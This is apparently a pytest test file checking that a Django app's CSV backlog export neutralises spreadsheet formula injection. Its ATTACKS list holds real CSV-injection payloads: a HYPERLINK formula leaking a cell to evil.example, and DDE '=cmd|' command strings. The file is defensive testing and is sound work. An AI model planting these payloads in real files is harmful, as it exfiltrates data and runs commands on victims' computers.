"""CSV exports neutralise spreadsheet formulas (docs/deploy.md). The attack run's case:
`=HYPERLINK(...)`, `=cmd|...`, `+`, `-`, `@` cells were exported verbatim."""

import csv
import io

import pytest

from intake.models import Problem, Role
from scoring.models import ProblemScore
from scoring.recompute import scores_recompute
from tests.factories import ProblemFactory, SiteReportFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cell_prefixes_text_that_a_spreadsheet_would_run():
    from api.csv_export import csv_cell

    assert [csv_cell(text) for text in ATTACKS] == ["'" + text for text in ATTACKS]
    assert csv_cell("Results take 20 minutes") == "Results take 20 minutes"
    assert csv_cell("-3.5") == "'-3.5"  # text, even when it reads like a number
    assert csv_cell(["=A1", "NORTH"]) == "'=A1 NORTH"


def test_numbers_stay_numbers():
    from api.csv_export import csv_cell, csv_lines

    assert csv_cell(-3.5) == -3.5
    assert csv_cell(-2) == -2
    assert csv_cell(False) == "false"
    assert list(csv.reader(io.StringIO("".join(csv_lines(["v", "t"], [{"v": -3.5, "t": "-3.5"}]))))) == [
        ["v", "t"],
        ["-3.5", "'-3.5"],
    ]


@pytest.mark.django_db
def test_backlog_csv_neutralises_every_text_cell_and_keeps_negative_numbers(api_as, users, site):
    for index, attack in enumerate(ATTACKS):
        problem = ProblemFactory(title=attack, external_ref=f"=cmd|' /C calc'!A{index}")
        SiteReportFactory(problem=problem, site=site, reporter=users[Role.CLINICIAN])
    scores_recompute(problem_ids=list(Problem.objects.values_list("pk", flat=True)))
    first = Problem.objects.order_by("pk").first()
    ProblemScore.objects.filter(problem=first).update(priority=-3.5)

    response = api_as(users[Role.IT_LEAD]).get("/api/v1/backlog/?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert response.status_code == 200
    assert sorted(row["title"] for row in rows) == sorted("'" + attack for attack in ATTACKS)
    assert all(row["external_ref"].startswith("'=cmd|") for row in rows)
    assert next(row for row in rows if row["id"] == str(first.pk))["priority"] == "-3.5"
    for row in rows:  # no cell of any column starts as a formula
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for key, cell in row.items() if key != "priority"
        )
